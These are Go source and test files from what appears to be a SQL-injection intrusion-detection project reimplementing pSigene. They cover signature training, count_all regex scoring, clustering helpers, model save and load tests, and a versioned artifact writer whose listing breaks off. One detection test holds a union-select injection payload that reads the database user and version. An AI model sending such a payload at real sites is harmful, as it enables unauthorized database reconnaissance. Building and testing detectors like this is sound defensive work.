func (m *Model) WithSignatures(idSet []int) (*Model, error) {
	want := make(map[int]bool, len(idSet))
	for _, id := range idSet {
		want[id] = true
	}
	out := *m
	out.Signatures = nil
	for _, s := range m.Signatures {
		if want[s.ID] {
			out.Signatures = append(out.Signatures, s)
			delete(want, s.ID)
		}
	}
	if len(want) != 0 {
		missing := make([]int, 0, len(want))
		for id := range want {
			missing = append(missing, id)
		}
		sort.Ints(missing)
		return nil, fmt.Errorf("core: unknown signature ids %v", missing)
	}
	if len(out.Signatures) == 0 {
		return nil, errors.New("core: no signatures selected")
	}
	return &out, nil
}

// SetThreshold overrides the decision threshold on every signature (used
// for ROC sweeps).
func (m *Model) SetThreshold(t float64) {
	m.threshold = t
	for _, s := range m.Signatures {
		s.Threshold = t
	}
}

// SignatureFeatures returns the post-pruning feature definitions of one
// signature (Table III for signature 6).
func (m *Model) SignatureFeatures(id int) ([]feature.Feature, error) {
	for _, s := range m.Signatures {
		if s.ID != id {
			continue
		}
		out := make([]feature.Feature, len(s.Features))
		for i, j := range s.Features {
			out[i] = m.Features.Features[j]
		}
		return out, nil
	}
	return nil, fmt.Errorf("core: no signature %d", id)
}
