package core

import (
	"fmt"
	"regexp"

	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/ml"
	"psigene/internal/normalize"
)

// CountAllDetector is the paper-faithful runtime: the Bro implementation
// (§III-C) exposes a count_all(regex, string) function and each signature
// independently counts every one of its feature regexes against the request
// payload. Shared work across signatures is *not* amortized — the paper
// attributes pSigene's 11–17X slowdown over Bro/ModSec to exactly these
// per-signature count_all invocations, and Experiment 4 measures this
// engine. Model.Inspect remains the optimized single-pass engine (the
// "obvious performance optimization" the paper leaves as future work).
type CountAllDetector struct {
	model *Model
	sigs  []countAllSignature
}

type countAllSignature struct {
	id        int
	threshold float64
	bias      float64
	weights   []float64
	regexes   []*regexp.Regexp
}

var _ ids.Detector = (*CountAllDetector)(nil)

// NewCountAllDetector compiles one regex per (signature, feature) pair.
// Reserved-word features become \bword\b regexes, exactly as the Bro
// implementation treats every feature as a regular expression.
func NewCountAllDetector(m *Model) (*CountAllDetector, error) {
	d := &CountAllDetector{model: m}
	for _, s := range m.Signatures {
		cs := countAllSignature{
			id:        s.ID,
			threshold: s.Threshold,
			bias:      s.Model.Bias,
			weights:   append([]float64(nil), s.Model.Weights...),
		}
		for _, j := range s.Features {
			f := m.Features.Features[j]
			pat := f.Pattern
			if f.Word != "" {
				pat = `\b` + regexp.QuoteMeta(f.Word) + `\b`
			}
			re, err := regexp.Compile("(?i)" + pat)
			if err != nil {
				return nil, fmt.Errorf("signature %d feature %q: %w", s.ID, f.Name, err)
			}
			cs.regexes = append(cs.regexes, re)
		}
		d.sigs = append(d.sigs, cs)
	}
	return d, nil
}

// Name implements ids.Detector.
func (d *CountAllDetector) Name() string {
	return fmt.Sprintf("pSigene/count_all(%d signatures)", len(d.sigs))
}

// countAll returns the number of non-overlapping matches of re in s — the
// count_all() function of the paper's Bro implementation. Bro's pattern
// type has no match-count primitive, so the policy-layer implementation
// finds one match at a time and re-scans the remainder; this function keeps
// those find-and-advance semantics.
func countAll(re *regexp.Regexp, s string) float64 {
	var n float64
	for len(s) > 0 {
		loc := re.FindStringIndex(s)
		if loc == nil {
			return n
		}
		n++
		adv := loc[1]
		if adv == loc[0] { // empty match: advance one byte
			adv++
		}
		if adv >= len(s) {
			return n
		}
		s = s[adv:]
	}
	return n
}

// Inspect implements ids.Detector with per-signature feature counting.
// Each signature handler normalizes and scans the full request string
// independently, as the separate Bro policy handlers do.
func (d *CountAllDetector) Inspect(req httpx.Request) ids.Verdict {
	var v ids.Verdict
	for i := range d.sigs {
		payload := normalize.Normalize(req.URL())
		s := &d.sigs[i]
		z := s.bias
		for k, re := range s.regexes {
			z += s.weights[k] * countAll(re, payload)
		}
		if ml.Sigmoid(z) >= s.threshold {
			v.Alert = true
			v.Score++
			v.Matched = append(v.Matched, fmt.Sprintf("psigene:%d", s.id))
		}
	}
	return v
}
