package core

import (
	"fmt"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/traffic"
)

// TestUpdateParityAcrossBackingsAndWorkers extends the training parity
// guarantee to incremental retraining: a model trained on corpus A and
// updated with corpus B must come out bit-identical whatever the matrix
// backing (CSR or dense) and whatever the worker count — Update's shard
// fan-out writes into preassigned slots, so scheduling order cannot leak
// into the weights. Every combination is compared with == against the
// serial sparse reference, probabilities included.
func TestUpdateParityAcrossBackingsAndWorkers(t *testing.T) {
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 31).Requests(600)
	benign := traffic.NewGenerator(32).Requests(800)
	fresh := attackgen.NewGenerator(attackgen.SQLMapProfile(), 33).Requests(200)
	probes := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 34).Requests(150),
		traffic.NewGenerator(35).Requests(300)...,
	)

	var reference *Model
	for _, dense := range []bool{false, true} {
		for _, workers := range []int{1, 2, 8} {
			label := fmt.Sprintf("dense=%v workers=%d", dense, workers)
			m, err := Train(attacks, benign, Config{DenseBacking: dense, Parallelism: workers})
			if err != nil {
				t.Fatalf("%s: Train: %v", label, err)
			}
			before := m.Stats.AttackSamples
			if err := m.Update(fresh); err != nil {
				t.Fatalf("%s: Update: %v", label, err)
			}
			if m.Stats.AttackSamples != before+len(fresh) {
				t.Fatalf("%s: AttackSamples %d after update, want %d", label, m.Stats.AttackSamples, before+len(fresh))
			}
			if reference == nil {
				reference = m
				continue
			}
			requireIdenticalModels(t, "update-parity "+label, reference, m, probes)
		}
	}
}
