package core

import (
	"psigene/internal/cluster"
	"psigene/internal/matrix"
)

// remapBiclusters rewrites bicluster row leaves (and the unclustered list)
// from subsample-local indices to indices into the full observed matrix.
func remapBiclusters(bic *cluster.Result, clusterIdx []int) {
	for i := range bic.Biclusters {
		b := &bic.Biclusters[i]
		mapped := make([]int, len(b.RowLeaves))
		for k, l := range b.RowLeaves {
			mapped[k] = clusterIdx[l]
		}
		b.RowLeaves = mapped
	}
	mapped := make([]int, len(bic.Unclustered))
	for k, l := range bic.Unclustered {
		mapped[k] = clusterIdx[l]
	}
	bic.Unclustered = mapped
}

// assignLeftovers assigns every observed row not used in clustering to the
// bicluster with the nearest centroid (in raw count space), growing that
// bicluster's sample set so the leftover samples still train signatures.
// Rows closer to no centroid than the farthest intra-cluster spread would
// be equally fine as noise; keeping the rule simple (always assign to the
// nearest) matches LR's tolerance for label noise.
func assignLeftovers(bic *cluster.Result, observed matrix.RowMatrix, weights []float64, clusterIdx []int) {
	used := make(map[int]bool, len(clusterIdx))
	for _, i := range clusterIdx {
		used[i] = true
	}

	// Centroids over the clustered members (weighted means). Accumulating
	// only a row's nonzeros adds the same terms as the dense loop (the
	// skipped terms are exact zeros), so both backings build identical
	// centroids.
	cols := observed.Cols()
	centroids := make([][]float64, len(bic.Biclusters))
	for bi := range bic.Biclusters {
		c := make([]float64, cols)
		var wsum float64
		for _, l := range bic.Biclusters[bi].RowLeaves {
			w := weights[l]
			wsum += w
			rc, rv := observed.RowNonZeros(l)
			if rc == nil {
				for j, v := range rv {
					c[j] += w * v
				}
			} else {
				for k, j := range rc {
					c[j] += w * rv[k]
				}
			}
		}
		if wsum > 0 {
			for j := range c {
				c[j] /= wsum
			}
		}
		centroids[bi] = c
	}
	if len(centroids) == 0 {
		return
	}

	for i := 0; i < observed.Rows(); i++ {
		if used[i] {
			continue
		}
		best, bestD := 0, rowSquaredDistToVec(observed, i, centroids[0])
		for bi := 1; bi < len(centroids); bi++ {
			if d := rowSquaredDistToVec(observed, i, centroids[bi]); d < bestD {
				best, bestD = bi, d
			}
		}
		b := &bic.Biclusters[best]
		b.RowLeaves = append(b.RowLeaves, i)
		b.SampleWeight += weights[i]
	}
}

// rowSquaredDistToVec is ‖m[i] − c‖². The sparse branch walks every column
// in ascending order with a cursor into the row's nonzeros so the terms are
// accumulated in exactly the dense order (centroids are dense, so the
// distance itself is inherently O(cols)).
func rowSquaredDistToVec(m matrix.RowMatrix, i int, c []float64) float64 {
	cols, vals := m.RowNonZeros(i)
	if cols == nil {
		return matrix.SquaredEuclidean(vals, c)
	}
	var d float64
	k := 0
	for j := range c {
		var v float64
		if k < len(cols) && cols[k] == j {
			v = vals[k]
			k++
		}
		diff := v - c[j]
		d += diff * diff
	}
	return d
}
