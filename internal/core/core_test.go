package core

import (
	"errors"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/httpx"
	"psigene/internal/ids"
	"psigene/internal/traffic"
)

// trainSmallModel trains a model on a compact but realistic corpus; shared
// across tests via sync.Once-style caching inside testing.
var cachedModel *Model

func smallModel(t *testing.T) *Model {
	t.Helper()
	if cachedModel != nil {
		return cachedModel
	}
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(1200)
	benign := traffic.NewGenerator(2).Requests(1500)
	m, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatalf("Train: %v", err)
	}
	cachedModel = m
	return m
}

func TestTrainProducesSignatures(t *testing.T) {
	m := smallModel(t)
	if len(m.Signatures) == 0 {
		t.Fatal("no signatures")
	}
	for _, s := range m.Signatures {
		if s.Model == nil || len(s.Features) == 0 {
			t.Fatalf("signature %d is incomplete: %+v", s.ID, s)
		}
		if len(s.Features) > s.BiclusterFeatures {
			t.Fatalf("signature %d: pruning grew the feature set (%d > %d)", s.ID, len(s.Features), s.BiclusterFeatures)
		}
	}
}

func TestTrainStats(t *testing.T) {
	m := smallModel(t)
	st := m.Stats
	if st.CandidateFeatures != 477 {
		t.Fatalf("candidates=%d, want 477", st.CandidateFeatures)
	}
	if st.ObservedFeatures <= 0 || st.ObservedFeatures >= st.CandidateFeatures {
		t.Fatalf("observed=%d must be a strict reduction of %d", st.ObservedFeatures, st.CandidateFeatures)
	}
	if st.UniqueAttackSamples <= 0 || st.UniqueAttackSamples > st.AttackSamples {
		t.Fatalf("unique=%d of %d", st.UniqueAttackSamples, st.AttackSamples)
	}
	// Paper: matrix ~85% zeros. Ours must be clearly sparse.
	if st.ZeroFraction < 0.5 {
		t.Fatalf("zero fraction %.3f — matrix should be sparse", st.ZeroFraction)
	}
	if st.CopheneticCorrelation < 0.5 {
		t.Fatalf("cophenetic %.3f — tree fits the data poorly", st.CopheneticCorrelation)
	}
}

func TestModelDetectsAttacksAndPassesBenign(t *testing.T) {
	m := smallModel(t)
	attacks := attackgen.NewGenerator(attackgen.SQLMapProfile(), 7).Requests(300)
	benign := traffic.NewGenerator(8).Requests(600)

	ra := ids.Evaluate(m, attacks)
	if ra.TPR() < 0.6 {
		t.Fatalf("TPR=%.3f on unseen sqlmap variants, want >= 0.6", ra.TPR())
	}
	rb := ids.Evaluate(m, benign)
	if rb.FPR() > 0.02 {
		t.Fatalf("FPR=%.4f on benign traffic, want <= 0.02", rb.FPR())
	}
}

func TestTrainErrors(t *testing.T) {
	benign := traffic.NewGenerator(1).Requests(10)
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 1).Requests(10)
	if _, err := Train(nil, benign, Config{}); err != ErrNoAttacks {
		t.Fatalf("want ErrNoAttacks, got %v", err)
	}
	if _, err := Train(attacks, nil, Config{}); err != ErrNoBenign {
		t.Fatalf("want ErrNoBenign, got %v", err)
	}
	// A degraded crawl below the coverage floor must refuse to train.
	if _, err := Train(attacks, benign, Config{MinAttackSamples: 50}); !errors.Is(err, ErrInsufficientSamples) {
		t.Fatalf("want ErrInsufficientSamples, got %v", err)
	}
	if _, err := Train(attacks, benign, Config{MinAttackSamples: 10}); errors.Is(err, ErrInsufficientSamples) {
		t.Fatal("corpus at the floor must be allowed to train")
	}
}

func TestProbabilitiesInRange(t *testing.T) {
	m := smallModel(t)
	reqs := append(
		attackgen.NewGenerator(attackgen.VegaProfile(), 3).Requests(50),
		traffic.NewGenerator(4).Requests(50)...)
	for _, r := range reqs {
		for _, p := range m.Probabilities(r) {
			if p < 0 || p > 1 {
				t.Fatalf("probability %v out of range", p)
			}
		}
	}
}

func TestWithSignatures(t *testing.T) {
	m := smallModel(t)
	if len(m.Signatures) < 2 {
		t.Skip("need at least 2 signatures")
	}
	ids2 := []int{m.Signatures[0].ID, m.Signatures[1].ID}
	sub, err := m.WithSignatures(ids2)
	if err != nil {
		t.Fatal(err)
	}
	if len(sub.Signatures) != 2 {
		t.Fatalf("got %d signatures", len(sub.Signatures))
	}
	// Original is untouched.
	if len(m.Signatures) == 2 {
		t.Fatal("WithSignatures must not mutate the original")
	}
	if _, err := m.WithSignatures([]int{9999}); err == nil {
		t.Fatal("unknown id: want error")
	}
	if _, err := m.WithSignatures(nil); err == nil {
		t.Fatal("empty selection: want error")
	}
}

func TestFewerSignaturesNeverIncreaseDetection(t *testing.T) {
	m := smallModel(t)
	if len(m.Signatures) < 2 {
		t.Skip("need at least 2 signatures")
	}
	sub, err := m.WithSignatures([]int{m.Signatures[0].ID})
	if err != nil {
		t.Fatal(err)
	}
	attacks := attackgen.NewGenerator(attackgen.ArachniProfile(), 5).Requests(200)
	full := ids.Evaluate(m, attacks)
	part := ids.Evaluate(sub, attacks)
	if part.TP > full.TP {
		t.Fatalf("subset detected more (%d) than full set (%d)", part.TP, full.TP)
	}
}

func TestSetThreshold(t *testing.T) {
	m := smallModel(t)
	attacks := attackgen.NewGenerator(attackgen.SQLMapProfile(), 9).Requests(150)
	defer m.SetThreshold(0.5)

	m.SetThreshold(0.0001)
	low := ids.Evaluate(m, attacks)
	m.SetThreshold(0.9999)
	high := ids.Evaluate(m, attacks)
	if low.TP < high.TP {
		t.Fatalf("lower threshold must not detect less: %d vs %d", low.TP, high.TP)
	}
}

func TestSignatureFeatures(t *testing.T) {
	m := smallModel(t)
	id := m.Signatures[0].ID
	feats, err := m.SignatureFeatures(id)
	if err != nil {
		t.Fatal(err)
	}
	if len(feats) != len(m.Signatures[0].Features) {
		t.Fatalf("got %d features, want %d", len(feats), len(m.Signatures[0].Features))
	}
	for _, f := range feats {
		if f.Name == "" {
			t.Fatal("feature without name")
		}
	}
	if _, err := m.SignatureFeatures(12345); err == nil {
		t.Fatal("unknown signature: want error")
	}
}

func TestInspectImplementsDetector(t *testing.T) {
	var _ ids.Detector = (*Model)(nil)
	m := smallModel(t)
	v := m.Inspect(httpx.Request{RawQuery: "id=-1+union+select+1,concat(user(),char(58),version()),3+from+information_schema.tables--+", Malicious: true})
	if !v.Alert {
		t.Fatal("canonical union injection must alert")
	}
	v = m.Inspect(httpx.Request{RawQuery: "q=union+college+course+selection&page=3"})
	if v.Alert {
		t.Fatalf("benign near-miss alerted: %+v", v)
	}
}

func TestUpdateIncremental(t *testing.T) {
	// Train a dedicated small model so mutation does not pollute the cache.
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 21).Requests(500)
	benign := traffic.NewGenerator(22).Requests(600)
	m, err := Train(attacks, benign, Config{})
	if err != nil {
		t.Fatal(err)
	}
	test := attackgen.NewGenerator(attackgen.SQLMapProfile(), 23).Requests(400)
	before := ids.Evaluate(m, test)

	// Feed 40% of the test set back in, as Experiment 2 does.
	if err := m.Update(test[:160]); err != nil {
		t.Fatalf("Update: %v", err)
	}
	after := ids.Evaluate(m, test)
	if after.TPR()+0.02 < before.TPR() {
		t.Fatalf("incremental training reduced TPR: %.3f -> %.3f", before.TPR(), after.TPR())
	}

	// Updating with nothing is a no-op.
	if err := m.Update(nil); err != nil {
		t.Fatal(err)
	}
}

func TestBinaryFeatureAblation(t *testing.T) {
	// The paper notes binary features "did not produce good results"; at
	// minimum the pipeline must run in that mode and produce a model.
	attacks := attackgen.NewGenerator(attackgen.CrawlProfile(), 31).Requests(400)
	benign := traffic.NewGenerator(32).Requests(400)
	m, err := Train(attacks, benign, Config{BinaryFeatures: true})
	if err != nil {
		t.Fatalf("binary ablation: %v", err)
	}
	if len(m.Signatures) == 0 {
		t.Fatal("binary ablation produced no signatures")
	}
	for _, v := range m.Vector(attacks[0]) {
		if v != 0 && v != 1 {
			t.Fatalf("binary mode emitted count %v", v)
		}
	}
}
