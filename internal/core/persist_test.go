package core

import (
	"bytes"
	"math"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/traffic"
)

func TestSaveLoadRoundTrip(t *testing.T) {
	m := smallModel(t)
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if len(loaded.Signatures) != len(m.Signatures) {
		t.Fatalf("loaded %d signatures, want %d", len(loaded.Signatures), len(m.Signatures))
	}
	if loaded.Features.Len() != m.Features.Len() {
		t.Fatalf("loaded %d features, want %d", loaded.Features.Len(), m.Features.Len())
	}
	// Identical verdicts and probabilities on a mixed workload.
	reqs := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 77).Requests(100),
		traffic.NewGenerator(78).Requests(100)...)
	for _, r := range reqs {
		a, b := m.Inspect(r), loaded.Inspect(r)
		if a.Alert != b.Alert {
			t.Fatalf("verdicts differ on %q", r.RawQuery)
		}
		pa, pb := m.Probabilities(r), loaded.Probabilities(r)
		for i := range pa {
			if math.Abs(pa[i]-pb[i]) > 1e-12 {
				t.Fatalf("probabilities differ on %q: %v vs %v", r.RawQuery, pa, pb)
			}
		}
	}
}

func TestSaveLoadFile(t *testing.T) {
	m := smallModel(t)
	path := filepath.Join(t.TempDir(), "model.json")
	if err := m.SaveFile(path); err != nil {
		t.Fatalf("SaveFile: %v", err)
	}
	loaded, err := LoadFile(path)
	if err != nil {
		t.Fatalf("LoadFile: %v", err)
	}
	if loaded.Name() != m.Name() {
		t.Fatalf("Name: %q vs %q", loaded.Name(), m.Name())
	}
}

func TestLoadedModelCannotUpdate(t *testing.T) {
	m := smallModel(t)
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	attacks := attackgen.NewGenerator(attackgen.SQLMapProfile(), 79).Requests(10)
	if err := loaded.Update(attacks); err == nil {
		t.Fatal("loaded model must refuse Update (no training state)")
	}
}

func TestLoadErrors(t *testing.T) {
	cases := []string{
		``,
		`{`,
		`{"version": 99}`,
		`{"version": 1, "features": [], "signatures": []}`,
		`{"version": 1, "features": [{"name":"a","source":1,"word":"a"}],
		  "signatures": [{"id":1,"features":[0,1],"weights":[1],"bias":0,"threshold":0.5}]}`,
		`{"version": 1, "features": [{"name":"a","source":1,"word":"a"}],
		  "signatures": [{"id":1,"features":[5],"weights":[1],"bias":0,"threshold":0.5}]}`,
	}
	for i, c := range cases {
		if _, err := Load(strings.NewReader(c)); err == nil {
			t.Fatalf("case %d: want error", i)
		}
	}
}

func TestLoadFileMissing(t *testing.T) {
	if _, err := LoadFile("/nonexistent/model.json"); err == nil {
		t.Fatal("want error")
	}
}
