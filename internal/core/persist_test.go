package core

import (
	"bytes"
	"math"
	"path/filepath"
	"strings"
	"testing"

	"psigene/internal/attackgen"
	"psigene/internal/traffic"
)

func TestSaveLoadRoundTrip(t *testing.T) {
	m := smallModel(t)
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatalf("Save: %v", err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if len(loaded.Signatures) != len(m.Signatures) {
		t.Fatalf("loaded %d signatures, want %d", len(loaded.Signatures), len(m.Signatures))
	}
	if loaded.Features.Len() != m.Features.Len() {
		t.Fatalf("loaded %d features, want %d", loaded.Features.Len(), m.Features.Len())
	}
	// Identical verdicts and probabilities on a mixed workload.
	reqs := append(
		attackgen.NewGenerator(attackgen.SQLMapProfile(), 77).Requests(100),
		traffic.NewGenerator(78).Requests(100)...)
	for _, r := range reqs {
		a, b := m.Inspect(r), loaded.Inspect(r)
		if a.Alert != b.Alert {
			t.Fatalf("verdicts differ on %q", r.RawQuery)
		}
		pa, pb := m.Probabilities(r), loaded.Probabilities(r)
		for i := range pa {
			if math.Abs(pa[i]-pb[i]) > 1e-12 {
				t.Fatalf("probabilities differ on %q: %v vs %v", r.RawQuery, pa, pb)
			}
		}
	}
}

func TestSaveLoadFile(t *testing.T) {
	m := smallModel(t)
	path := filepath.Join(t.TempDir(), "model.json")
	if err := m.SaveFile(path); err != nil {
		t.Fatalf("SaveFile: %v", err)
	}
	loaded, err := LoadFile(path)
	if err != nil {
		t.Fatalf("LoadFile: %v", err)
	}
	if loaded.Name() != m.Name() {
		t.Fatalf("Name: %q vs %q", loaded.Name(), m.Name())
	}
}

func TestLoadedModelCannotUpdate(t *testing.T) {
	m := smallModel(t)
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	attacks := attackgen.NewGenerator(attackgen.SQLMapProfile(), 79).Requests(10)
	if err := loaded.Update(attacks); err == nil {
		t.Fatal("loaded model must refuse Update (no training state)")
	}
}

func TestLoadErrors(t *testing.T) {
	cases := []string{
		``,
		`{`,
		`{"version": 99}`,
		`{"version": 1, "features": [], "signatures": []}`,
		`{"version": 1, "features": [{"name":"a","source":1,"word":"a"}],
		  "signatures": [{"id":1,"features":[0,1],"weights":[1],"bias":0,"threshold":0.5}]}`,
		`{"version": 1, "features": [{"name":"a","source":1,"word":"a"}],
		  "signatures": [{"id":1,"features":[5],"weights":[1],"bias":0,"threshold":0.5}]}`,
	}
	for i, c := range cases {
		if _, err := Load(strings.NewReader(c)); err == nil {
			t.Fatalf("case %d: want error", i)
		}
	}
}

// TestLoadTruncated cuts a real saved model at every prefix length up to
// (and including) the final closing brace: all are incomplete JSON and must
// produce a clean error, never a panic and never a partially-built model.
// This is the gateway's reload safety net — a half-written model file on
// disk must be rejected before the detector swap.
func TestLoadTruncated(t *testing.T) {
	m := smallModel(t)
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()
	end := bytes.LastIndexByte(full, '}')
	if end < 0 {
		t.Fatal("saved model has no closing brace")
	}
	// Stride keeps the quadratic decode work bounded; always include the
	// boundary cases 0, 1, and the byte just before the closing brace.
	cuts := []int{0, 1, end - 1, end}
	for n := 2; n < end-1; n += 97 {
		cuts = append(cuts, n)
	}
	for _, n := range cuts {
		if _, err := Load(bytes.NewReader(full[:n])); err == nil {
			t.Fatalf("truncated to %d of %d bytes: want error", n, len(full))
		}
	}
	// Sanity: the untruncated bytes still load.
	if _, err := Load(bytes.NewReader(full)); err != nil {
		t.Fatalf("full model failed to load: %v", err)
	}
}

// TestLoadCorrupted flips single bytes of a valid saved model. Corruption
// may survive decoding (a digit flipped inside a weight is still valid
// JSON), so the invariant is weaker than for truncation: Load must never
// panic, and any model it does accept must score requests without
// panicking.
func TestLoadCorrupted(t *testing.T) {
	m := smallModel(t)
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()
	probe := attackgen.NewGenerator(attackgen.SQLMapProfile(), 80).Requests(5)
	for pos := 0; pos < len(full); pos += 53 {
		for _, flip := range []byte{0x01, 0x80, 0xff} {
			mut := append([]byte(nil), full...)
			mut[pos] ^= flip
			loaded, err := Load(bytes.NewReader(mut))
			if err != nil {
				continue
			}
			for _, r := range probe {
				loaded.Inspect(r) // must not panic
			}
		}
	}
}

func TestLoadFileMissing(t *testing.T) {
	if _, err := LoadFile("/nonexistent/model.json"); err == nil {
		t.Fatal("want error")
	}
}
