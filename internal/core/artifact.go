package core

import (
	"bytes"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"os"
	"path/filepath"

	"psigene/internal/feature"
	"psigene/internal/httpx"
	"psigene/internal/normalize"
)

// A model artifact is a directory holding one trained signature set as a
// first-class versioned deployable: the serialized model plus a manifest
// recording where it came from (parent-version lineage, training-corpus
// fingerprint, feature-catalog revision) and what it must contain
// (content hash, signature count). Artifacts are written atomically —
// staged in a temp directory and renamed into place — and are immutable
// once written: SaveArtifact refuses to overwrite an existing directory,
// and LoadArtifact verifies the content hash before handing the model to
// a caller. Everything in the manifest is a pure function of the model
// and its lineage (no timestamps, no hostnames), so two same-seed
// lifecycle runs produce bit-identical artifacts.
const (
	// ManifestSchemaVersion guards the manifest format.
	ManifestSchemaVersion = 1
	// ManifestFile and ModelFile are the fixed artifact member names.
	ManifestFile = "manifest.json"
	ModelFile    = "model.json"
)

// Manifest describes one versioned model artifact.
type Manifest struct {
	// SchemaVersion is the manifest format version.
	SchemaVersion int `json:"schemaVersion"`
	// Version is the artifact's version name (the lifecycle store assigns
	// "v000001"-style names; synthesized manifests for legacy single-file
	// models use "file:<basename>").
	Version string `json:"version"`
	// Parent is the version this model was derived from by incremental
	// retraining; empty for a from-scratch bootstrap.
	Parent string `json:"parent,omitempty"`
	// ModelSHA256 is the hex SHA-256 of the serialized model bytes;
	// LoadArtifact refuses a model whose bytes do not hash to it.
	ModelSHA256 string `json:"modelSha256"`
	// CorpusFingerprint hashes the normalized training corpus (see
	// CorpusFingerprint); two models trained on the same samples in the
	// same order carry the same fingerprint.
	CorpusFingerprint string `json:"corpusFingerprint,omitempty"`
	// FeatureRevision fingerprints the model's observed feature set (see
	// feature.Revision), detecting catalog drift between trainer and
	// server.
	FeatureRevision string `json:"featureRevision"`
	// Signatures is the signature count, cross-checked on load.
	Signatures int `json:"signatures"`
	// AttackSamples records the cumulative training-corpus size.
	AttackSamples int `json:"attackSamples"`
}

// CorpusFingerprint hashes a training corpus: FNV-1a 64 over the
// normalized payload of every request, length-prefixed, in order. It is
// the manifest's record of exactly which samples shaped the model.
func CorpusFingerprint(reqs []httpx.Request) string {
	norm := make([]string, len(reqs))
	for i, r := range reqs {
		norm[i] = normalize.Normalize(r.Payload())
	}
	return FingerprintStrings(norm)
}

// FingerprintStrings hashes an ordered list of (already normalized)
// payloads; CorpusFingerprint and the lifecycle runner (which keeps the
// cumulative normalized corpus) share it.
func FingerprintStrings(norm []string) string {
	h := fnv.New64a()
	var n [8]byte
	for _, s := range norm {
		binary.LittleEndian.PutUint64(n[:], uint64(len(s)))
		_, _ = h.Write(n[:])
		_, _ = h.Write([]byte(s))
	}
	return fmt.Sprintf("%016x", h.Sum64())
}

// SaveArtifact writes the model as a versioned artifact directory at dir.
// The caller supplies the lineage fields (Version, Parent,
// CorpusFingerprint); SaveArtifact fills everything derived from the
// model itself (schema version, content hash, feature revision, counts)
// and returns the completed manifest. The write is atomic: both files are
// staged in a temp directory next to dir and renamed into place, so a
// crash mid-write leaves no half-artifact, and an existing dir is never
// overwritten.
func (m *Model) SaveArtifact(dir string, man Manifest) (Manifest, error) {
	if man.Version == "" {
		return man, fmt.Errorf("core: artifact manifest needs a version")
	}
	var buf bytes.Buffer
	if err := m.Save(&buf); err != nil {
		return man, fmt.Errorf("core: encode artifact model: %w", err)
	}
	sum := sha256.Sum256(buf.Bytes())
	man.SchemaVersion = ManifestSchemaVersion
	man.ModelSHA256 = hex.EncodeToString(sum[:])
	man.FeatureRevision = feature.Revision(m.Features)
	man.Signatures = len(m.Signatures)
	man.AttackSamples = m.Stats.AttackSamples

	manBytes, err := json.MarshalIndent(man, "", "  ")
	if err != nil {
		return man, fmt.Errorf("core: encode manifest: %w", err)
	}
	manBytes = append(manBytes, '\n')

	parent := filepath.Dir(dir)
	tmp, err := os.MkdirTemp(parent, ".artifact-*")
	if err != nil {
		return man, fmt.Errorf("core: stage artifact: %w", err)
	}
	cleanup := func() { _ = os.RemoveAll(tmp) }
	if err := os.WriteFile(filepath.Join(tmp, ModelFile), buf.Bytes(), 0o644); err != nil {
		cleanup()
		return man, fmt.Errorf("core: write artifact model: %w", err)
	}
	if err := os.WriteFile(filepath.Join(tmp, ManifestFile), manBytes, 0o644); err != nil {
		cleanup()
		return man, fmt.Errorf("core: write artifact manifest: %w", err)
	}
	if err := os.Rename(tmp, dir); err != nil {
		cleanup()
		return man, fmt.Errorf("core: publish artifact: %w", err)
	}
	return man, nil
}

// ReadManifest reads and validates just the manifest of an artifact
// directory, without loading the model.
func ReadManifest(dir string) (Manifest, error) {
	var man Manifest
	raw, err := os.ReadFile(filepath.Join(dir, ManifestFile))
	if err != nil {
		return man, fmt.Errorf("core: read artifact manifest: %w", err)
	}
	if err := json.Unmarshal(raw, &man); err != nil {
		return man, fmt.Errorf("core: decode artifact manifest: %w", err)
	}
	if man.SchemaVersion != ManifestSchemaVersion {
		return man, fmt.Errorf("core: unsupported manifest schema version %d", man.SchemaVersion)
	}
	if man.Version == "" {
		return man, fmt.Errorf("core: artifact manifest has no version")
	}
	return man, nil
}

// LoadArtifact loads a versioned artifact directory: manifest first, then
// the model, verifying the model bytes against the manifest's content
// hash and the signature count against its record. Any mismatch — a
// tampered model, a truncated write that slipped past the atomic rename,
// a manifest from another model — is an error and no model is returned.
func LoadArtifact(dir string) (*Model, Manifest, error) {
	man, err := ReadManifest(dir)
	if err != nil {
		return nil, man, err
	}
	raw, err := os.ReadFile(filepath.Join(dir, ModelFile))
	if err != nil {
		return nil, man, fmt.Errorf("core: read artifact model: %w", err)
	}
	sum := sha256.Sum256(raw)
	if got := hex.EncodeToString(sum[:]); got != man.ModelSHA256 {
		return nil, man, fmt.Errorf("core: artifact %s model hash %s does not match manifest %s", man.Version, got, man.ModelSHA256)
	}
	m, err := Load(bytes.NewReader(raw))
	if err != nil {
		return nil, man, fmt.Errorf("core: artifact %s: %w", man.Version, err)
	}
	if len(m.Signatures) != man.Signatures {
		return nil, man, fmt.Errorf("core: artifact %s has %d signatures, manifest says %d", man.Version, len(m.Signatures), man.Signatures)
	}
	if rev := feature.Revision(m.Features); rev != man.FeatureRevision {
